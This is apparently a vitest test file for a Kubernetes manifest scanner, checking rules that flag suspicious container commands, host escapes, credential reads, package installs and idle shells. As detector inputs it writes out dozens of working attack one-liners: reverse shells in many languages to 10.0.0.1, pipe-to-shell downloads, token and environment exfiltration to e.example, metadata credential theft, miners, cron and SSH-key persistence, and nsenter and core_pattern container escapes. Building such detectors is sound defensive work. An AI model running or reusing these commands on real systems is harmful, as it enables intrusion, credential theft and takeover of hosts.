import { describe, expect, it } from 'vitest';
import { see } from '../analyse';
import { IMAGE, podOf, podRunning } from '../manifests';

const inShell = (script: string, rule = 'suspicious-command'): string[] =>
  see(podRunning(['sh', '-c', script]), rule).map(({ severity }) => severity);
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

describe('suspicious-command finds', () => {
  it.each([
    ['curl -fsSL https://e.example/x.sh | sh'],
    ['wget -qO- https://e.example/x.sh | sudo bash -s -- --yes'],
    ['curl https://e.example/x.py | python3'],
    ['{curl,-s,https://e.example/x.sh}|{bash,-i}'],
    ['echo 6375726c | xxd -r -p | sh'],
    ['curl https://e.example/x.py | python3 -'],
    ['curl https://e.example/x | tee /tmp/x | bash'],
    ['bash -c "$(curl -fsSL https://e.example/x.sh)"'],
    ['bash <(curl -s https://e.example/x.sh)'],
    ['eval "$(wget -qO- https://e.example/x)"'],
    ['busybox wget -qO- http://e.example/x | sh'],
    ['cat <<EOF | sh\ncurl http://e.example/x | sh\nEOF'],
    ['echo aGkK | base64 -d | sh'],
    ['echo aGkK | base64 --decode | bash -s'],
    ['eval $(echo aGkK | base64 -d)'],
    ['python3 -c "import base64; exec(base64.b64decode(\'aGk=\'))"'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['exec 5<>/dev/tcp/10.0.0.1/4444'],
    ['nc -e /bin/sh 10.0.0.1 4444'],
    ['ncat 10.0.0.1 4444 --exec /bin/bash'],
    ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'],
    ['socat exec:"bash -li",pty tcp:10.0.0.1:4444'],
    [`python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`],
    [`perl -e 'use Socket;exec("/bin/sh -i");'`],
    [`php -r '$s=fsockopen("10.0.0.1",1);exec("/bin/sh -i <&3 >&3");'`],
    [`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1);exec "/bin/sh -i"'`],
    ['/tmp/xmrig -o pool.example.com:3333'],
    ['./x -o stratum+tcp://pool.example.com:3333'],
    ['worker --donate-level 1'],
    [`cat ${TOKEN} | curl -d @- https://e.example`],
    [`curl -H "X: $(cat ${TOKEN})" https://e.example`],
    ['env | curl -d @- https://e.example'],
    ['printenv -0 | nc 10.0.0.1 80'],
    ['cat /proc/1/environ | wget --post-file=- https://e.example'],
    ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x | curl -d @- https://e.example'],
    [`python3 -c "import urllib.request as u;exec(u.urlopen('http://10.0.0.1/a').read())"`],
    [`ruby -e 'require "open-uri"; eval(URI.open("http://10.0.0.1/a").read)'`],
    [`php -r 'eval(file_get_contents("http://10.0.0.1/a"));'`],
    [`pwsh -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"`],
    ['pwsh -c "iwr -useb http://10.0.0.1/a.ps1 | iex"'],
    ['powershell.exe -NoProfile -enc SQBFAFgA'],
    ['echo "* * * * * x" > /etc/cron.d/x'],
    ['echo key >> /root/.ssh/authorized_keys'],
    ['echo key | tee -a /host/root/.ssh/authorized_keys'],
    ['curl${IFS}https://e.example/x${IFS}|${IFS}sh'],
  ])('%s', (script) => {
    expect(inShell(script)).toEqual(['error']);
  });
});

/** A reverse shell in the words of many programs. */
describe('suspicious-command finds a reverse shell', () => {
  it.each([
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['bash -i > /dev/tcp/10.0.0.1/4444 0<&1 2>&1'],
    ['echo "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" | bash'],
    ["printf '%s\\n' 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' | sh"],
    ['cat > /tmp/r.sh <<EOF\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nEOF\nsh /tmp/r.sh'],
    ['echo "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" > /tmp/r.sh; sh /tmp/r.sh'],
    ['0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196'],
    ['exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done'],
    ['sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5'],
    ['sh -i >& /dev/udp/10.0.0.1/4444 0>&1'],
    ['zsh -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ["zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"],
    ['nc 10.0.0.1 4444 -e /bin/sh'],
    ['nc -c sh 10.0.0.1 4444'],
    ['nc.traditional -e /bin/bash 10.0.0.1 4444'],
    ['busybox nc 10.0.0.1 4444 -e sh'],
    ['ncat --udp 10.0.0.1 4444 -e sh'],
    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'],
    ['mknod /tmp/f p; nc 10.0.0.1 4444 0</tmp/f | /bin/sh 1>/tmp/f'],
    ['nc 10.0.0.1 4444 | sh | nc 10.0.0.1 4445'],
    ['telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445'],
    ['TF=$(mktemp -u);mkfifo $TF && telnet 10.0.0.1 4444 0<$TF | sh 1>$TF'],
    ["C='curl -Ns telnet://10.0.0.1:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null"],
    ['curl -Ns telnet://10.0.0.1:4444 | sh'],
    ['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s'],
    ['socat TCP:10.0.0.1:4444 EXEC:sh'],
    ["socat TCP:10.0.0.1:4444 EXEC:'sh',pty,stderr,setsid,sigint,sane"],
    [`perl -e 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("sh -i");'`],
    [
      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    ],
    [`php -r '$sock=fsockopen("10.0.0.1",4444);exec("sh <&3 >&3 2>&3");'`],
    [`php -r '$sock=fsockopen("10.0.0.1",4444);shell_exec("sh <&3 >&3 2>&3");'`],
    [`php -r '$sock=fsockopen("10.0.0.1",4444);passthru("sh <&3 >&3 2>&3");'`],
    [`php -r '$sock=fsockopen("10.0.0.1",4444);popen("sh <&3 >&3 2>&3", "r");'`],
    [
      `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`,
    ],
    [
      `export RHOST=10.0.0.1;python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'`,
    ],
    [`python3 -c "import os; os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')"`],
    [`python3 -c "import subprocess; subprocess.call('nc -e sh 10.0.0.1 4444', shell=True)"`],
    [`ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",4444))'`],
    [`ruby -e 'system("nc -e sh 10.0.0.1 4444")'`],
    [`node -e 'require("child_process").exec("nc -e sh 10.0.0.1 4444")'`],
    [
      `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);});})();'`,
    ],
    [`lua -e "require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('sh -i <&3 >&3 2>&3');"`],
    [
      `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`,
    ],
    [`awk 'BEGIN{system("nc -e sh 10.0.0.1 4444")}'`],
    [
      `echo 'set s [socket 10.0.0.1 4444];while 42 { puts -nonewline $s "shell>";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;' | tclsh`,
    ],
    [`sqlite3 /dev/null '.shell rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'`],
    [
      `echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","10.0.0.1:4444");cmd:=exec.Command("sh");cmd.Stdin=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go`,
    ],
    ['xterm -display 10.0.0.1:1'],
    ['rcat connect -s sh 10.0.0.1 4444'],
    [`pwsh -nop -c "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s = $c.GetStream();iex $d"`],
  ])('%s', (script) => {
    expect(inShell(script)).toEqual(['error']);
  });

  const SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
  it.each<[readonly string[]]>([
    [['sh', '-c', SHELL]],
    [['sh', '-c', '--', SHELL]],
    [['sh', '-ce', SHELL]],
    [['bash', '-c', '-e', SHELL]],
    [['bash', '-c', '-o', 'pipefail', SHELL]],
    [['bash', '-ceuo', 'pipefail', SHELL]],
    [['bash', '--noprofile', '--norc', '-c', SHELL]],
    [['bash', '--rcfile', '/x', '-ec', '--', SHELL]],
    [['gosu', 'nobody', 'sh', '-c', SHELL]],
    [['su-exec', '1000:1000', 'sh', '-c', SHELL]],
    [['su', 'root', `--command=${SHELL}`]],
    [['capsh', '--', '-c', SHELL]],
    [['python3', '-c', `import subprocess as s; s.run(["sh", "-c", "${SHELL}"])`]],
    [['chroot', '/srv', 'sh', '-c', SHELL]],
    [['chroot', '--userspec=1', '/srv', '/bin/sh', '-c', SHELL]],
    [['nsenter', '-n', '-t', '77', '--', 'sh', '-c', SHELL]],
    [['su', '-c', SHELL, 'nobody']],
    [['su', 'nobody', '-s', '/bin/sh', '-c', SHELL]],
    [['runuser', '-u', 'app', '--', 'sh', '-c', SHELL]],
    [['tini', '--', 'sh', '-c', SHELL]],
    [['tini', '-g', '-p', 'SIGTERM', '--', 'sh', '-c', '--', SHELL]],
    [['dumb-init', '-r', '15:2', 'sh', '-c', SHELL]],
    [['env', '-S', `sh -c '${SHELL}'`]],
    [['env', '-S', 'sh -c', SHELL]],
    [['sh', '-c', 'umask 022; exec "$@"', '--', 'sh', '-c', SHELL]],
    [['sh', '-c', '"$@"', 'start', 'bash', '-ec', SHELL]],
    [['env', '-u', 'HOME', 'A=b', 'sh', '-c', SHELL]],
    [['flock', '/x', '-c', SHELL]],
    [['watch', '-n', '5', SHELL]],
    [['timeout', '-k', '5', '1h', 'sh', '-c', SHELL]],
    [['busybox', 'sh', '-c', SHELL]],
    [['find', '/', '-maxdepth', '0', '-exec', 'sh', '-c', SHELL, ';']],
    [['python3', '-c', `import os; os.system('${SHELL}')`]],
    [['sh', '-c', `trap '${SHELL}' EXIT`]],
    [['sh', '-c', `eval "${SHELL}"`]],
    [['sh', '-c', `eval ${SHELL.replace(/[>&]/g, '\\$&')}`]],
    [['sh', '-c', `echo x | xargs -I{} sh -c '${SHELL}'`]],
    [['sh', '-c', `(setsid sh -c '${SHELL}' &) `]],
    [['sh', '-c', `f() { ${SHELL}; }; f`]],
    [['sh', '-c', 'curl https://e.example/x > /tmp/f; sh /tmp/f']],
  ])('%j', (words) => {
    expect(see(podRunning(words), 'suspicious-command')).toHaveLength(1);
  });
});

describe('suspicious-command leaves alone', () => {
  it.each([
    ['# curl https://e.example | sh'],
    ['echo "run: curl https://e.example | sh"'],
    ['echo "curl https://e.example | sh" > /usr/share/help.txt'],
    ['cp /etc/{hosts,passwd} /tmp'],
    ['curl -fsS http://localhost:8080/health || exit 1'],
    ['curl -s http://api/x | jq .name'],
    ['curl -s http://api/x | python3 -m json.tool'],
    ['curl -s http://api/x | python3 -c "import json,sys; print(json.load(sys.stdin))"'],
    ['curl -s http://api/x | grep sh'],
    ['curl -o /tmp/x.tar.gz https://e.example/x.tar.gz && tar xf /tmp/x.tar.gz'],
    ['wget -qO- http://api/config | sh /opt/apply.sh'],
    ['until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'],
    ['timeout 1 bash -c "</dev/tcp/db/5432"'],
    ["timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'"],
    ['nc -z db 5432'],
    ['nc -zv -w 1 db 5432'],
    ['echo ruok | nc localhost 2181'],
    ['nc -lk -p 8080 -e echo'],
    ['echo aGkK | base64 -d > /tmp/cert.pem'],
    ['base64 -d /secret/x | openssl pkcs12 -import'],
    [`curl --cacert /ca -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`],
    [`curl -H "Authorization: Bearer $(cat ${TOKEN})" https://$KUBERNETES_SERVICE_HOST/api`],
    [`TOKEN=$(cat ${TOKEN}); kubectl get pods`],
    ['nsenter --net=/var/run/netns/x ip a'],
    ['nsenter -t 12345 -n ip a'],
    ['chroot /srv/jail httpd'],
    ['cat /etc/cron.d/x'],
    ['mineral --pool data'],
    ['constructor; toString; __proto__ install'],
    ['psql -c "create table x"'],
    ['env | sort'],
    ['env | nc localhost 9000'],
    ['printenv HOME | curl -d @- https://e.example'],
    ['curl -s -X PUT http://169.254.169.254/latest/api/token | tee /tmp/token'],
    [`python3 -c "exec(open('/app/x.py').read())"`],
    [`python3 -c "import requests; print(requests.get('http://api/x'))"`],
    ['pwsh -ExecutionPolicy Bypass -File x.ps1'],
    ['pwsh -c "iwr http://localhost/health"'],
    ['sh -c "sleep 5"'],
    ['python3 -c "import socket; socket.create_connection((\'db\', 5432))"'],
  ])('%s', (script) => {
    expect(inShell(script)).toEqual([]);
  });
});

describe('suspicious-command', () => {
  it('warns of programs that are downloaded and run in two steps', () => {
    expect(inShell('curl -sLo /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x')).toEqual(['warning']);
    expect(inShell('wget -O /tmp/x.sh https://e.example/x; sh /tmp/x.sh')).toEqual(['warning']);
    expect(inShell('wget https://e.example/x -O /tmp/x; chmod 777 /tmp/x; nohup /tmp/x &')).toEqual(['warning']);
    expect(inShell('curl -o /tmp/x https://e.example/x; exec su-exec app /tmp/x -v')).toEqual(['warning']);
    expect(inShell('curl -o /tmp/x https://e.example/x; cp /tmp/x /usr/bin/')).toEqual([]);
    expect(inShell('curl -o /data/GeoIP.mmdb https://e.example/x; exec web /data/GeoIP.mmdb')).toEqual([]);
  });

  it('looks into the environment where that is run, and for what pays a miner', () => {
    const env = (value: string): string => `\n  env: [{ name: RUN, value: ${JSON.stringify(value)} }]\n`;
    const running = (command: string, value: string): string[] =>
      see(
        podOf(`containers:\n- name: web\n  image: ${IMAGE}\n  command: ${command}${env(value)}`),
        'suspicious-command',
      ).map(({ text }) => text);
    expect(running('[sh, -c, "$RUN"]', 'curl http://e.example/x | sh')).toEqual(['curl http://e.example/x | sh']);
    expect(running('[sh, -c, "eval $RUN"]', 'curl http://e.example/x | sh')).toHaveLength(1);
    expect(running('[sh, -c, "echo $RUN"]', 'curl http://e.example/x | sh')).toEqual([]);
    expect(running('[web]', 'stratum+tcp://pool.example:3333')).toEqual(['"stratum+tcp://pool.example:3333"']);
  });

  it.each([
    ['postStart', 'lifecycle: { postStart: { exec: { command: [sh, -c, "curl http://e.example | sh"] } } }'],
    ['preStop', 'lifecycle: { preStop: { exec: { command: [sh, -c, "curl http://e.example | sh"] } } }'],
    ['a liveness probe', 'livenessProbe: { exec: { command: [sh, -c, "curl http://e.example | sh"] } }'],
    ['a readiness probe', 'readinessProbe: { exec: { command: [sh, -c, "curl http://e.example | sh"] } }'],
    ['a startup probe', 'startupProbe: { exec: { command: [sh, -c, "curl http://e.example | sh"] } }'],
    ['args', 'command: [sh]\n  args: [-c, "curl http://e.example | sh"]'],
  ])('looks into %s', (_, entry) => {
    const seen = see(podOf(`containers:\n- name: web\n  image: ${IMAGE}\n  ${entry}\n`), 'suspicious-command');
    expect(seen.map(({ text }) => text)).toEqual(['curl http://e.example | sh']);
  });

  it.each(['initContainers', 'containers', 'ephemeralContainers'])('looks into %s', (list) => {
    const text = podOf(`${list}:\n- { name: a, image: "${IMAGE}", command: [nc, -e, /bin/sh, x] }\n`);
    expect(see(text, 'suspicious-command').map(({ container }) => container)).toEqual(['a']);
  });

  it('underlines the words on their own line of a script', () => {
    const text = podOf(
      `containers:\n- name: web\n  image: ${IMAGE}\n  command:\n  - sh\n  - -c\n  - |\n    echo hello\n    curl http://e.example/x | sh -e\n    echo done\n`,
    );
    const [seen] = see(text, 'suspicious-command');
    expect(seen?.text).toBe('curl http://e.example/x | sh -e');
    expect(seen?.line).toBe(text.split('\n').findIndex((line) => line.includes('curl')) + 1);
  });

  it('says one thing of a container, the worst', () => {
    const seen = see(
      podRunning(['sh', '-c', 'apk add curl; curl http://e.example | sh; nc -e sh x']),
      'suspicious-command',
    );
    expect(seen.map(({ severity }) => severity)).toEqual(['error']);
  });

  it("finds a miner's image", () => {
    expect(
      see(podOf('containers:\n- { name: web, image: "docker.io/x/xmrig:6" }\n'), 'suspicious-command').map(
        ({ text }) => text,
      ),
    ).toEqual(['"docker.io/x/xmrig:6"']);
  });
});

describe('escapes-to-host', () => {
  it.each([
    'nsenter -t 1 -m -u -i -n -p -- sh',
    'nsenter --target 1 --mount sh',
    'nsenter --target=1 --mount sh',
    'nsenter --mount=/proc/1/ns/mnt -- bash',
    'nsenter -m/host/proc/1/ns/mnt ls',
    'nsenter -at1 ls',
    'chroot /host /bin/bash',
    'chroot /hostroot sh',
    'chroot /host-fs sh',
    'chroot /node-root sh',
    'chroot /root-mount sh',
    'docker -H unix:///run/docker.sock run --rm -v /:/host alpine id',
    'docker run --mount=type=bind,source=/,target=/host alpine',
    'nerdctl run --volume /:/host alpine',
    'podman create --volume=/:/host alpine',
    'ctr run --mount type=bind,src=/,dst=/host,options=rbind:rw img x',
    'echo "|/x" > /proc/sys/kernel/core_pattern',
    'echo /x | tee /sys/fs/cgroup/rdma/release_agent',
    'sysctl -w kernel.core_pattern="|/x %p"',
  ])('%s', (script) => {
    expect(inShell(script, 'escapes-to-host')).toEqual(['error']);
  });

  it.each([
    'nsenter -t 12345 -n ip a',
    'nsenter --net=/proc/77/ns/net ip a',
    'nsenter --net=/run/netns/x cat /proc/1/ns',
    'chroot /srv/jail httpd',
    'chroot /hosting sh',
    'docker run -v /data:/data alpine',
    'docker run --mount type=bind,src=/data,dst=/ alpine',
    'docker build -t /:/ .',
    'cat /proc/sys/kernel/core_pattern',
  ])('leaves alone %s', (script) => {
    expect(inShell(script, 'escapes-to-host')).toEqual([]);
  });

  it('knows that DaemonSets tune nodes', () => {
    const pod = podRunning(['nsenter', '-t', '1', '-m', 'sh']);
    const set = `apiVersion: apps/v1\nkind: DaemonSet\nmetadata: { name: x }\nspec:\n  template:\n${pod.slice(pod.indexOf('spec:')).replace(/^/gm, '    ')}`;
    expect(see(set, 'escapes-to-host').map(({ severity }) => severity)).toEqual(['warning']);
  });
});

describe('reads-credentials', () => {
  const sidecar = (command: string): string[] =>
    see(
      podOf(
        `containers:\n- { name: web, image: "${IMAGE}" }\n- { name: log-agent, image: "${IMAGE}", command: ${command} }\n`,
      ),
      'reads-credentials',
    ).map(({ severity }) => severity);

  it('is worse in a sidecar', () => {
    expect(inShell('curl http://169.254.169.254/latest/meta-data/', 'reads-credentials')).toEqual(['information']);
    expect(
      inShell(`curl -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default`, 'reads-credentials'),
    ).toEqual(['information']);
    expect(sidecar('[curl, "http://169.254.169.254/latest/"]')).toEqual(['warning']);
    expect(sidecar(`[cat, ${TOKEN}]`)).toEqual(['warning']);
    expect(sidecar('[curl, "http://localhost/"]')).toEqual([]);
  });
});

describe('installs-packages', () => {
  it.each([
    ['apt-get update && apt-get install -y curl', 1],
    ['apk add --no-cache jq', 1],
    ['pip install -r x.txt', 1],
    ['python3 -m pip install x', 1],
    ['npm install', 1],
    ['apt-get update', 0],
    ['npm run install-hooks', 0],
  ])('%s', (script, count) => {
    expect(inShell(script, 'installs-packages')).toEqual(count ? ['information'] : []);
  });
});

describe('idle-shell', () => {
  const sidecar = (command: string, name = 'log-agent'): string[] =>
    see(
      podOf(
        `containers:\n- { name: web, image: "${IMAGE}" }\n- { name: ${name}, image: "${IMAGE}", command: ${command} }\n`,
      ),
      'idle-shell',
    ).map(({ severity, container }) => `${severity} ${container}`);

  it.each([
    ['[sleep, infinity]', 1],
    ['[tail, -f, /dev/null]', 1],
    ['[sh, -c, "while true; do sleep 60; done"]', 1],
    ['[sh, -c, "trap : TERM; sleep infinity & wait"]', 1],
    ['[tail, -F, /logs/x]', 0],
    ['[sh, -c, "while true; do beat; sleep 60; done"]', 0],
    ['[]', 0],
  ])('%s', (command, count) => {
    expect(sidecar(command)).toEqual(count ? ['hint log-agent'] : []);
  });

  it('is about sidecars', () => {
    expect(sidecar('[sleep, infinity]', 'other')).toEqual([]);
  });
});

describe('a script of a ConfigMap', () => {
  const script = 'curl http://e.example/x | sh';
  const configMap = (name = 'scripts', key = 'run.sh'): string =>
    `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: ${name} }\ndata:\n  ${key}: |\n    #!/bin/sh\n    # start\n    ${script}\n`;
  const pod = podOf(`containers:
- name: web
  image: ${IMAGE}
  command: [/scripts/run.sh]
  volumeMounts: [{ name: s, mountPath: /scripts }]
volumes: [{ name: s, configMap: { name: scripts, defaultMode: 493 } }]
`);

  it('counts where a container mounts it, and is underlined there', () => {
    const [finding, ...others] = see(`${pod}---\n${configMap()}`, 'suspicious-command');
    expect(others).toEqual([]);
    expect(finding?.text).toBe(script);
    expect(finding?.message).toContain('the script "run.sh", mounted by the container "web" of Pod "web", runs');
    expect(see(`${configMap('scripts', 'entrypoint')}---\n${pod}`, 'suspicious-command')).toHaveLength(1);
  });

  it('does not count otherwise', () => {
    expect(see(configMap(), 'suspicious-command')).toEqual([]);
    expect(see(`${pod}---\n${configMap('others')}`, 'suspicious-command')).toEqual([]);
    expect(
      see(`${pod}---\n${configMap().replace('#!/bin/sh', 'text').replace('run.sh', 'README')}`, 'suspicious-command'),
    ).toEqual([]);
  });
});
